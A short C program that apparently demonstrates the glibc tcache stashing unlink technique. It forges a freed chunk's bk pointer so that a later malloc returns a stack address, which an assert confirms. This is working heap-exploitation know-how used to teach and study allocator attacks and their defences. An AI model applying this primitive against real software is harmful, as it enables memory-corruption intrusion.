/* Stashing small chunks into the tcache follows a forged bk. */
#include <stdio.h>
#include <stdlib.h>
#include <assert.h>
int main(void) {
    unsigned long stack_var[0x10] = {0};
    unsigned long *chunk_lis[0x10] = {0};
    unsigned long *target;
    setbuf(stdout, NULL);
    stack_var[3] = (unsigned long)(&stack_var[2]);
    for (int i = 0; i < 9; i++) chunk_lis[i] = (unsigned long *)malloc(0x90);
    for (int i = 3; i < 9; i++) free(chunk_lis[i]);
    free(chunk_lis[1]);
    free(chunk_lis[0]);
    free(chunk_lis[2]);
    malloc(0xa0);
    malloc(0x90);
    malloc(0x90);
    chunk_lis[2][1] = (unsigned long)stack_var;
    calloc(1, 0x90);
    target = malloc(0x90);
    assert(target == &stack_var[2]);
    return 0;
}
